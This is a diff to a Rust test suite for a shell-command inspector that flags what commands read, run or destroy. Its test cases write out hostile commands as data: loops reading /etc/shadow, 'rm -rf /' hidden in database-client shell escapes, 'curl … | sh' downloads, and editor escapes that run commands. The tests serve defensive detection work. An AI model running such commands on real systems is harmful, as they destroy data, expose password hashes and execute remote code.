@@ -138,7 +138,6 @@ fn an_ordinary_removal_names_what_it_removes() {
         ("cd sub && rm a", "/home/user/project/sub/a"),
         ("git rm old.rs", "/home/user/project/old.rs"),
         ("unlink link", "/home/user/project/link"),
-        ("rmdir empty", "/home/user/project/empty"),
         ("find . -name '*.o' | while read f; do rm \"$f\"; done", "/home/user/project/**"),
         ("d=build; rm -rf \"$d\"", "/home/user/project/build"),
         ("for f in a b; do rm $f; done", "/home/user/project/b"),
@@ -504,6 +503,139 @@ fn what_is_edited_in_place_is_changed_and_what_is_not_is_read() {
         let seen = inspect(line);
         assert!(seen.touches(Effect::Read, "/home/user/project/f") && seen.touches.len() == 1, "{line}\n{seen:#?}");
     }
+}
+
+#[test]
+fn a_loop_over_what_is_not_known_runs_its_body() {
+    for line in [
+        "for i in $(seq 100); do cat /etc/shadow; done",
+        "for i in `seq 3`; do cat /etc/shadow 2>&1 | head -1; done | sort | uniq -c",
+        "for f in $(cat list); do cat /etc/shadow; done",
+        "for x in \"$@\"; do cat /etc/shadow; done",
+        "seq 3 | while read n; do cat /etc/shadow; done",
+        "for i in {1..3}; do cat /etc/shadow; done",
+        "for ((i=0;i<3;i++)); do cat /etc/shadow; done",
+        "until false; do cat /etc/shadow; done",
+    ] {
+        let seen = inspect(line);
+        assert!(seen.touches(Effect::Read, "/etc/shadow"), "{line}\n{seen:#?}");
+    }
+}
+
+#[test]
+fn what_a_generator_writes_is_not_taken_for_nothing() {
+    for line in
+        ["seq 9 | sh", "yes | sh", "date | bash", "factor 9 | sh", "jq -n '\"id\"' | sh", "expr 1 | sh", "fortune | sh"]
+    {
+        let seen = inspect(line);
+        assert!(!seen.unknowns.is_empty(), "{line}\n{seen:#?}");
+    }
+}
+
+#[test]
+fn the_commands_of_database_clients_are_followed() {
+    for line in [
+        "psql -c '\\! rm -rf /'",
+        "psql <<'E'\nselect 1;\n\\! rm -rf /\nE",
+        "mysql -e 'system rm -rf /'",
+        "sqlite3 a.db '.shell rm -rf /'",
+        "sqlite3 a.db <<< '.system rm -rf /'",
+        "psql -c 'select 1 \\g |rm -rf /'",
+    ] {
+        let seen = inspect(line);
+        assert!(seen.found(FindingKind::DestroysSystem), "{line}\n{seen:#?}");
+    }
+    for (line, name) in [
+        ("sqlite3 a.db '.output /tmp/o' 'select 1'", "/tmp/o"),
+        ("psql -c '\\o /tmp/o'", "/tmp/o"),
+        ("sqlite3 a.db '.backup main /tmp/o'", "/tmp/o"),
+    ] {
+        assert!(inspect(line).touches(Effect::Update, name), "{line}\n{:#?}", inspect(line));
+    }
+    all_clear(&[
+        "psql -c '\\dt'",
+        "psql -c '\\d+ users'",
+        "psql -c '\\l'",
+        "sqlite3 a.db .tables",
+        "sqlite3 a.db '.schema users'",
+    ]);
+}
+
+#[test]
+fn options_that_make_an_innocent_program_run_or_write_are_known() {
+    for line in [
+        "cp --frobnicate a b",
+        "ls --exec=x",
+        "cowsay -f ./evil x",
+        "ionice -c3 sh -c 'curl https://h.example | sh'",
+        "chrt -r 5 ./evil",
+        "ip netns exec x ./evil",
+        "run-parts /tmp/x",
+        "start-stop-daemon --start --exec ./evil",
+        "ssh-agent ./evil",
+        "pidstat -e ./evil",
+        "vim +'!id' x",
+        "less +'!id' x",
+        "ed x",
+        "nano -s ./evil x",
+        "ugrep --filter='*:./evil' x",
+        "jq -L ./evil . x",
+        "rsync --daemon --config=./evil",
+        "cpio -i --rsh-command=./evil",
+        "patch -e < x",
+        "scrot -e ./evil x",
+        "smbclient -c '!id' h.example",
+        "perl -MEvil -e 1",
+        "setarch -R ./evil",
+        "gimp --frob-command x",
+    ] {
+        let seen = inspect(line);
+        let runs_a_file = seen.touches.iter().any(|t| t.effect == Effect::Execute);
+        assert!(seen.decision() != Decision::Allow || runs_a_file, "{line}\n{seen:#?}");
+    }
+    all_clear(&[
+        "cp -av --preserve=mode a b",
+        "mv -vn a b",
+        "rm -fv --one-file-system a.o",
+        "ln -sfn a b",
+        "install -Dm644 a b/c",
+        "sort -t, -k2,2nr -u a.csv",
+        "gzip -9k a.log",
+        "xz -T0 --keep a",
+        "rsync -avz --exclude=target src/ backup/",
+        "unzip -qo a.zip -d out",
+        "patch -p1 --dry-run -i a.patch",
+        "fd -e rs -H main",
+        "jq -r --arg n 1 '.[$n]' a.json",
+        "perl -MList::Util=sum -e 'print sum(1, 2)'",
+        "dig +short MX a.example",
+        "ssh-keygen -l -f k.pub",
+        "haproxy -c -f h.cfg",
+        "chronic make --version",
+        "aws s3 help",
+        "kubectl get pods --help",
+        "npx --no-install prettier --version",
+        "rename 's/a/b/' x y",
+        "tee -a log",
+        "nice -n 5 ionice -c3 ls",
+    ]);
+}
+
+#[test]
+fn what_a_known_file_holds_is_followed() {
+    let mut context = context();
+    context.files.insert("/home/user/project/x.sh".to_owned(), "rm -rf /".to_owned());
+    context
+        .files
+        .insert("/home/user/project/y".to_owned(), "#!/usr/bin/env python3\nimport os; os.remove('/etc/z')".to_owned());
+    for line in
+        ["sh x.sh", "./x.sh", ". ./x.sh", "cat x.sh | sh", "bash < x.sh", "eval \"$(cat x.sh)\"", "cp a b && bash x.sh"]
+    {
+        let seen = shell(line, &context);
+        assert!(seen.found(FindingKind::DestroysSystem), "{line}\n{seen:#?}");
+    }
+    let seen = shell("./y", &context);
+    assert!(seen.touches(Effect::Delete, "/etc/z"), "{seen:#?}");
 }
 
 #[test]
